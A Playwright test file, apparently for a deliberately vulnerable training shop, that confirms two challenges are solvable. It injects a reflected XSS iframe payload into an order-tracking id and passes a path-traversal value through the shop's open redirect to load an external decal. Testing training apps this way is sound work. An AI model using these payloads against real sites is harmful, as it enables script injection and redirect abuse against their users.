import { expect, test } from '@playwright/test'
import { expectSolved, logInByApi, openLoggedIn, registerCustomer } from '../support/shop'

/* The two weaknesses of the money path that only a browser can exploit. */

test('Tracking Echo: an iframe in the tracked order id runs script', async ({ page, request }) => {
  const alerts: string[] = []
  page.on('dialog', dialog => { alerts.push(dialog.message()); void dialog.accept() })
  await page.goto(`/#/track-result?id=${encodeURIComponent('<iframe src="javascript:alert(`xss`)">')}`)
  await expect.poll(() => alerts).toContain('xss')
  await expectSolved(request, 'reflectedXssChallenge')
})

test('Decal Swap: the deluxe page loads its decal through the shop redirect', async ({ page, request }) => {
  const login = await logInByApi(request, await registerCustomer(request, 'decal'))
  await openLoggedIn(page, login, `/#/deluxe-membership?testDecal=${encodeURIComponent('../../../../redirect?to=https://code.example/juice-shop')}`)
  await expect(page.getByRole('heading', { name: 'Deluxe Membership' })).toBeVisible()
  await expectSolved(request, 'svgInjectionChallenge')
})
